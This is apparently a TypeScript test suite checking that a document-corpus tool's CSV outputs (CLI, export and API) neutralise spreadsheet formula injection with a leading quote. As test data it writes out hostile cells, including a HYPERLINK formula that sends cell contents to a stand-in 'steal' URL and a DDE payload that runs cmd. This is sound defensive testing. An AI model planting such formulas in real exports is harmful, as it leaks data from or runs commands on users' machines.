// CSV formula injection: a document's title, publisher, file name or agreement title that begins with
// =, +, -, @, a tab or a carriage return reaches CSV cells; every CSV Readout writes (query --csv,
// export --format csv, the API's ?format=csv) writes such a cell with a leading single quote, and
// numbers as they are. Checked by parsing the CSV with csv-parse, as a consumer would read it.
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { parse } from 'csv-parse/sync';
import { csvLine, toCsv } from '../../src/export/csv.js';
import { startServer, type RunningServer } from '../../src/serve/server.js';
import { openStore } from '../../src/store/open-store.js';
import type { Store } from '../../src/store/store.js';
import { cli } from '../helpers.js';

const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D]/;
const NUMBER = /^-?\d+(\.\d+)?$/;

/** Every cell of a CSV text, as csv-parse reads it. */
const cells = (csv: string): string[][] => parse(csv, { relax_column_count: false }) as string[][];

/** No cell a spreadsheet would run: each begins with a dangerous character only if it is a number. */
function assertNeutral(csv: string, what: string): void {
  for (const row of cells(csv)) for (const cell of row) assert.ok(!FORMULA_START.test(cell) || NUMBER.test(cell), `${what}: ${JSON.stringify(cell)}`);
}

describe('CSV cells that a spreadsheet would run', () => {
  it('are written with a leading quote; numbers, negative ones too, are written as numbers', () => {
    const hostile = [
      '=HYPERLINK("http://x.example/?"&A1,"Click")',
      "+cmd|' /C calc'!A0",
      '-2+3',
      '@SUM(A1:A9)',
      '\t=1',
      '\r=1',
      '＝1+1',
      'Astana, 12 April',
      'say "hi"',
    ];
    const [header, row] = cells(
      toCsv(
        ['a', 'b', 'c', 'd', 'e', 'f', 'g', 'h', 'i', 'n', 'm', 'yes'],
        [Object.fromEntries([...hostile.map((h, i) => ['abcdefghi'[i]!, h]), ['n', -365.5], ['m', 0], ['yes', true]])],
      ),
    );
    assert.deepEqual(header, ['a', 'b', 'c', 'd', 'e', 'f', 'g', 'h', 'i', 'n', 'm', 'yes']);
    assert.deepEqual(row, [...hostile.map((h) => (FORMULA_START.test(h) ? `'${h}` : h)), '-365.5', '0', 'true']);
    // A date with no year is text: a spreadsheet would compute --05-28 as -23.
    assert.deepEqual(cells(csvLine(['--05-28', null, false]))[0], ["'--05-28", '', 'false']);
  });

  describe('in every CSV the tool writes', () => {
    let dir = '';
    let db = '';
    let store: Store;
    let server: RunningServer;
    const title = '=HYPERLINK("http://x.example/steal?"&A1,"Open")';
    const publisher = "+cmd|' /C calc'!A0";
    before(async () => {
      dir = mkdtempSync(join(tmpdir(), 'readout-csv-'));
      db = join(dir, 'corpus.db');
      const docs = join(dir, 'docs');
      mkdirSync(docs);
      writeFileSync(
        join(docs, '@evil.html'),
        `<!doctype html><html><head><title>${title.replace(/&/g, '&amp;').replace(/"/g, '&quot;')}</title><meta property="og:site_name" content="${publisher}"></head><body><article>
        <p>ASTANA, 12 April 2024. President of Kazakhstan Kassym-Jomart Tokayev held talks with Prime Minister of Hungary Viktor Orbán in Astana on 12 April 2024.</p>
        <p>The sides signed the =SUM(1+1) Agreement on cooperation in agriculture. Trade turnover between Kazakhstan and Hungary reached $365 million in 2023.</p>
      </article></body></html>`,
      );
      const ingest = await cli(['ingest', docs, '--db', db, '--root', docs, '--workers', '1']);
      assert.equal(ingest.code, 0, ingest.stderr);
      store = await openStore(db);
      server = await startServer(store, { host: '127.0.0.1', port: 0, log: () => {} });
    });
    after(async () => {
      await server.close();
      await store.close();
      rmSync(dir, { recursive: true, force: true });
    });

    it('readout documents --csv: the title, publisher and file name quoted', async () => {
      const r = await cli(['documents', '--csv', '--db', db]);
      assert.equal(r.code, 0, r.stderr);
      const [header, row] = cells(r.stdout);
      const at = (column: string): string => row![header!.indexOf(column)]!;
      assert.equal(at('source'), "'@evil.html");
      assert.equal(at('title'), `'${title}`);
      assert.equal(at('publisher'), `'${publisher}`);
      assertNeutral(r.stdout, 'documents --csv');
    });

    it('every query verb with --csv, and export --format csv', async () => {
      for (const verb of [['events'], ['agreements'], ['trade'], ['people'], ['documents'], ['export', '--format', 'csv']]) {
        const r = await cli([...verb, ...(verb[0] === 'export' ? [] : ['--csv']), '--db', db]);
        assert.equal(r.code, 0, `${verb.join(' ')}: ${r.stderr}`);
        assert.ok(cells(r.stdout).length > 1, `${verb.join(' ')} has rows`);
        assertNeutral(r.stdout, verb.join(' '));
      }
    });

    it("the API's ?format=csv", async () => {
      for (const list of ['events', 'agreements', 'trade', 'people', 'documents']) {
        const response = await fetch(new URL(`/api/${list}?format=csv`, server.url));
        assert.equal(response.status, 200, list);
        const text = await response.text();
        assertNeutral(text, `/api/${list}`);
        if (list === 'documents')
          assert.ok(
            cells(text).some((row) => row.includes(`'${title}`)),
            'the title, quoted',
          );
      }
    });
  });
});
